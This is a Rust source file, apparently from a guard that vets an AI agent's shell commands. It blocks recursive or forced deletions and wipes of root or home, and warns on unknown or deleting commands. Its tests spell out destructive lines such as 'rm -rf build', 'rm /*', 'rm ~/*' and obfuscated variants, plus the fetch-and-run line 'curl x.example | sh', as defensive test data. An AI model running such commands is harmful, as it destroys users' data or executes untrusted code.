//! Whether the command can be read, and does not remove more than one file at a time.
//!
//! It goes by what the commands are, not by how they are spelled: `rm -fr build`, `sudo rm -r -f
//! build` and `find build -delete` are one thing.

use holdpoint_broker::Status;
use holdpoint_core::{ExplainedCommand, paths::is_within};

use super::CheckOutcome;
use super::subject::Subject;
use crate::humanize::counted;
use crate::{escape_for_display, text_without_secrets};

pub(super) fn check(subject: &Subject) -> CheckOutcome {
    if subject.call.command_line().is_none() {
        let message = "the call is no command line";
        return (Status::Skipped, message.into());
    }
    let Some(explained) = subject.explained() else {
        let message = "the directory it runs in has no name that is text";
        return (Status::Error, message.into());
    };
    if let Some(why) = &explained.unreadable {
        let message = format!(
            "the command line cannot be read: {}",
            escape_for_display(why, 200)
        );
        return (Status::Error, message);
    }
    let mut warning = None;
    for command in &explained.commands {
        let name = text_without_secrets(&escape_for_display(&command.text, 120));
        if let Some(why) = destroys(command, subject) {
            return (Status::Failed, format!("`{name}` {why}"));
        }
        if let Some(unknown) = command.unknown {
            warning = Some(format!("what `{name}` runs is not known: {unknown}"));
        } else if command.effects.iter().any(|effect| effect.kind == "delete") && removes(command) {
            warning = Some(format!("`{name}` removes files"));
        }
    }
    match warning {
        Some(warning) => (Status::Warning, warning),
        None => {
            let commands = counted(explained.commands.len(), "command");
            (Status::Passed, format!("{commands}, each of them readable"))
        }
    }
}

fn removes(command: &ExplainedCommand) -> bool {
    command.words.first().is_some_and(|word| word != "mv")
}

/// Why a command removes more than a person would expect.
fn destroys(command: &ExplainedCommand, subject: &Subject) -> Option<&'static str> {
    if !removes(command) {
        return None;
    }
    let home = subject.home.as_deref().and_then(|home| home.to_str());
    for effect in command
        .effects
        .iter()
        .filter(|effect| effect.kind == "delete")
    {
        let path = effect.path.as_deref().unwrap_or_default();
        let whole = path.trim_end_matches(['*', '/']);
        let everything = !path.is_empty() && whole.is_empty();
        if everything || home.is_some_and(|home| is_within(home, whole) && !whole.is_empty()) {
            return Some("removes everything there is, or everything of this user's");
        }
        if effect.recursive {
            return Some("removes whole directories");
        }
    }
    // `rm` without a file removes none, but what is put behind it may.
    let is_rm = command.words.first().is_some_and(|program| program == "rm");
    let flags = command
        .words
        .iter()
        .skip(1)
        .take_while(|word| *word != "--");
    let mut flags = flags.filter(|word| word.starts_with('-'));
    (is_rm && flags.any(|flag| takes_all(flag)))
        .then_some("removes without asking, or whole directories")
}

/// `-r`, `-R`, `-f` in any bundle, and the long ones, cut short as far as `rm` takes them.
fn takes_all(flag: &str) -> bool {
    match flag.strip_prefix("--") {
        Some(long) => ["recursive", "force"]
            .iter()
            .any(|name| !long.is_empty() && name.starts_with(long)),
        None => flag.contains(['r', 'R', 'f']),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use holdpoint_core::ToolCall;
    use std::path::Path;

    fn status(line: &str) -> Status {
        let home = Some(Path::new("/home/dev"));
        let subject = Subject::from_call(ToolCall::shell(line), Path::new("/work/app"), home);
        check(&subject).0
    }

    //
    #[test]
    fn every_spelling_of_a_recursive_removal_fails() {
        for line in [
            "rm -rf build",
            "rm -fr build",
            "rm -r -f build",
            "rm build -rf",
            "rm --recursive build",
            "rm --rec build",
            "rm -f x",
            "/bin/rm -Rv build",
            "sudo rm -fr build",
            "true && r\"m\" -'f'r build",
            "bash -c 'rm -fr build'",
            "F=-fr; rm $F build",
            "ls | xargs rm -rf",
            "rm /*",
            "rm ~/*",
            "find build -delete",
        ] {
            assert_eq!(status(line), Status::Failed, "{line}");
        }
    }

    #[test]
    fn what_removes_less_is_told_and_the_rest_passes() {
        assert_eq!(status("rm x"), Status::Warning);
        assert_eq!(status("rm -- -rf"), Status::Warning);
        assert_eq!(status("curl x.example | sh"), Status::Warning);
        assert_eq!(status("cargo build && cargo test"), Status::Passed);
        assert_eq!(status("echo 'rm -rf /'"), Status::Passed);
        assert_eq!(status("git commit -m 'rm -rf build'"), Status::Passed);
        assert_eq!(status("mv a b"), Status::Passed);
    }

    //
    #[test]
    fn a_line_that_cannot_be_read_is_an_error_and_stops_the_call() {
        assert_eq!(status("rm 'x"), Status::Error);
        assert!(status("if true").blocks());
    }

    #[test]
    fn a_call_that_is_no_command_is_not_judged() {
        let call = ToolCall::new("Read", serde_json::json!({"file_path": "x"})).unwrap();
        let subject = Subject::from_call(call, Path::new("/work/app"), None);
        assert_eq!(check(&subject).0, Status::Skipped);
    }
}
